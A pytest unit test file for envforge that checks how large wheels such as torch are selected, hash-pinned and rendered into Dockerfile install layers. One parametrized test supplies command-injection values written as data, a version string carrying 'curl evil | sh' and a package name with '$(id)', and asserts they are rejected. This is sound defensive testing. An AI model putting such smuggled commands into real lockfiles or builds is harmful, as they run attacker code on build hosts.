"""Which packages get the heavy layer, and how their pins reach the Dockerfile. Pure."""

from __future__ import annotations

import tomllib
from dataclasses import replace
from typing import Any

import pytest

from envforge.errors import InvalidProjectError
from envforge.image.heavy import HeavyPin, heavy_decision, heavy_pins
from envforge.image.options import BuildOptions
from envforge.image.render import render_dockerfile
from envforge.image.selection import Selection
from envforge.project.installset import Target
from envforge.project.lockfile import Lock
from envforge.project.settings import EnvforgeSettings
from tests.conftest import EXAMPLES
from tests.unit.helpers import plan_for

H = "sha256:" + "a" * 64
H2 = "sha256:" + "b" * 64
PYPI = "https://pypi.org/simple"
WHEEL = "https://files.example/{name}-{version}-cp311-cp311-manylinux_2_28_x86_64.whl"
NONE = Selection((), (), ("--locked",))
TARGET = Target("3.11.9")
BUILDKIT = BuildOptions(builder="buildkit")


def _package(
    name: str, version: str, size: int, changes: dict[str, Any] | None = None
) -> dict[str, Any]:
    wheel = {"url": WHEEL.format(name=name.replace("-", "_"), version=version), "hash": H}
    wheel["size"] = size
    package: dict[str, Any] = {
        "name": name,
        "version": version,
        "source": {"registry": PYPI},
        "wheels": [wheel],
    }
    package.update(changes or {})
    return package


def _lock(*packages: dict[str, Any]) -> Lock:
    root = {
        "name": "app",
        "version": "0.1.0",
        "source": {"editable": "."},
        "dependencies": [{"name": p["name"]} for p in packages],
    }
    data = {"version": 1, "requires-python": ">=3.10", "package": [root, *packages]}
    return Lock.from_dict(data, project_name="app")


def test_wheels_over_the_threshold_are_pinned_with_their_hashes() -> None:
    lock = _lock(_package("torch", "2.15.0", 539_000_000), _package("sympy", "1.14.0", 6_300_000))
    (pin,) = heavy_pins(lock, TARGET, "3.11", NONE)
    assert pin == HeavyPin(
        name="torch", version="2.15.0", index=PYPI, hashes=(H,), size=539_000_000
    )
    assert pin.requirement == f"torch==2.15.0 --hash={H}"
    assert [p.name for p in heavy_pins(lock, TARGET, "3.11", NONE, heavy_mb=5)] == [
        "sympy",
        "torch",
    ]
    assert heavy_pins(lock, TARGET, "3.11", NONE, heavy_mb=600) == ()
    assert heavy_pins(lock, TARGET, "3.11", NONE, heavy_mb=0) == ()  # [tool.envforge] off


@pytest.mark.parametrize(
    "changes",
    [
        {"source": {"registry": "../wheels"}},  # a local index: nothing to --index-url
        {"source": {"registry": "https://x/simple y"}},  # a crafted URL
        {"source": {"git": "https://github.com/pytorch/pytorch"}},
        {"wheels": [{"url": WHEEL.format(name="torch", version="2.15.0"), "size": 539_000_000}]},
        {"wheels": [{"url": WHEEL.format(name="torch", version="2.15.0"), "hash": "md5:00", "size": 539_000_000}]},
        {"wheels": [{"url": "https://x/torch-2.15.0-cp311-cp311-win_amd64.whl", "hash": H, "size": 539_000_000}]},
        {"version": "2.15.0' && curl evil | sh #"},
        {"name": "torch$(id)"},
    ],
)  # fmt: skip
def test_what_cannot_be_pinned_exactly_is_left_to_uv_sync(changes: dict[str, Any]) -> None:
    lock = _lock(_package("torch", "2.15.0", 539_000_000, changes))
    assert heavy_pins(lock, TARGET, "3.11", NONE) == ()


def test_what_the_heavy_ones_need_comes_with_them() -> None:
    torch = _package("torch", "2.15.0", 539_000_000, {"dependencies": [{"name": "sympy"}]})
    sympy = _package("sympy", "1.14.0", 6_300_000, {"dependencies": [{"name": "mpmath"}]})
    mpmath = _package("mpmath", "1.3.0", 500_000)
    six = _package("six", "1.17.0", 11_000)  # the project's own: left to the sync
    lock = _lock(torch, sympy, mpmath, six)
    pins = heavy_pins(lock, TARGET, "3.11", NONE)
    assert [(p.name, p.heavy) for p in pins] == [
        ("mpmath", False), ("sympy", False), ("torch", True),
    ]  # fmt: skip
    said = heavy_decision(pins, None)
    assert said is not None and said.choice == "1 package (539 MB of wheels) and the 2 they need"


def test_every_fitting_wheel_hash_and_the_fork_for_the_image_python() -> None:
    fork = [
        _package("torch", "2.14.1", 500_000_000, {"resolution-markers": ["python_full_version < '3.11'"]}),
        _package("torch", "2.15.0", 539_000_000, {"resolution-markers": ["python_full_version >= '3.11'"]}),
    ]  # fmt: skip
    fork[0]["wheels"][0]["url"] = fork[0]["wheels"][0]["url"].replace("cp311", "cp310")
    other = {
        "url": WHEEL.format(name="torch", version="2.15.0").replace("2_28", "2_17"),
        "hash": H2,
    }
    fork[1]["wheels"].append({**other, "size": 530_000_000})
    root = {
        "name": "app", "version": "0.1.0", "source": {"editable": "."},
        "dependencies": [
            {"name": "torch", "version": "2.14.1", "marker": "python_full_version < '3.11'"},
            {"name": "torch", "version": "2.15.0", "marker": "python_full_version >= '3.11'"},
        ],
    }  # fmt: skip
    lock = Lock.from_dict(
        {"version": 1, "requires-python": ">=3.10", "package": [root, *fork]}, project_name="app"
    )
    (pin,) = heavy_pins(lock, TARGET, "3.11", NONE)
    assert (pin.version, pin.hashes) == ("2.15.0", (H, H2))
    (old,) = heavy_pins(lock, Target("3.10.14"), "3.10", NONE)
    assert old.version == "2.14.1"


def test_the_decision_names_the_biggest_and_says_why_there_is_none() -> None:
    pins = tuple(
        HeavyPin(name=n, version="1", index=PYPI, hashes=(H,), size=s)
        for n, s in [
            ("a", 60_000_000),
            ("torch", 539_000_000),
            ("b", 70_000_000),
            ("c", 55_000_000),
        ]
    )
    said = heavy_decision(pins, None)
    assert said is not None
    assert said.choice == "4 packages (724 MB of wheels)"
    assert said.reason.startswith("torch 1 (539 MB), b 1 (70 MB), a 1 (60 MB) and 1 more: ")
    none = heavy_decision(pins, "the classic builder has no mounts")
    assert none is not None and none.choice == "none"
    assert heavy_decision((), None) is None and heavy_decision((), "why") is None


def test_several_indexes_get_one_install_each_in_the_lock_order() -> None:
    pytorch = "https://download.pytorch.org/whl/cu124"
    plan = plan_for(EXAMPLES / "gpu-torch", BUILDKIT)
    pins = (
        HeavyPin(name="torch", version="2.5.1+cu124", index=pytorch, hashes=(H,), size=9),
        HeavyPin(name="nvidia-cudnn-cu12", version="9.1.0.70", index=PYPI, hashes=(H2,), size=9),
    )
    text = render_dockerfile(replace(plan, heavy=pins))
    assert text.count("uv pip install --quiet --no-deps --require-hashes") == 2
    assert text.index(f"--index-url {pytorch} ") < text.index(f"--index-url {PYPI} ")
    assert f"    'torch==2.5.1+cu124 --hash={H}' \\\n" in text


def test_the_threshold_is_a_setting() -> None:
    text = "[tool.envforge]\nheavy-wheel-mb = 0\n"
    assert EnvforgeSettings.from_dict(tomllib.loads(text)["tool"]["envforge"]).heavy_wheel_mb == 0
    with pytest.raises(InvalidProjectError, match="heavy-wheel-mb"):
        EnvforgeSettings.from_dict({"heavy-wheel-mb": -1})
    with pytest.raises(InvalidProjectError, match="heavy-wheel-mb"):
        EnvforgeSettings.from_dict({"heavy-wheel-mb": "50"})


def test_the_example_gpu_project_splits_torch_and_cuda_off() -> None:
    plan = plan_for(EXAMPLES / "gpu-torch", BUILDKIT)
    names = {p.name for p in plan.heavy}
    assert {"torch", "triton", "nvidia-cudnn-cu13", "nvidia-nvjitlink", "numpy"} <= names
    assert "sympy" in names and "pytest" not in names  # what torch needs; a dev group
    classic = plan_for(EXAMPLES / "gpu-torch")
    assert classic.heavy == ()
    assert replace(classic, builder="buildkit").heavy == ()  # chosen by make_plan only


def test_an_index_that_records_no_size_makes_torch_heavy_by_name() -> None:
    """The PyTorch index gives no sizes: uv.lock's torch wheels have a hash and no size."""
    pytorch = "https://download.pytorch.org/whl/cpu"
    torch = _package("torch", "2.9.1+cpu", 0, {"source": {"registry": pytorch}})
    del torch["wheels"][0]["size"]
    tool = _package("tiny-tool", "1.0", 0)
    del tool["wheels"][0]["size"]
    (pin,) = heavy_pins(_lock(torch, tool), TARGET, "3.11", NONE)
    assert (pin.name, pin.size, pin.index, pin.heavy) == ("torch", 0, pytorch, True)
    said = heavy_decision((pin,), None)
    assert said is not None and said.reason.startswith("torch 2.9.1+cpu (size not recorded): ")
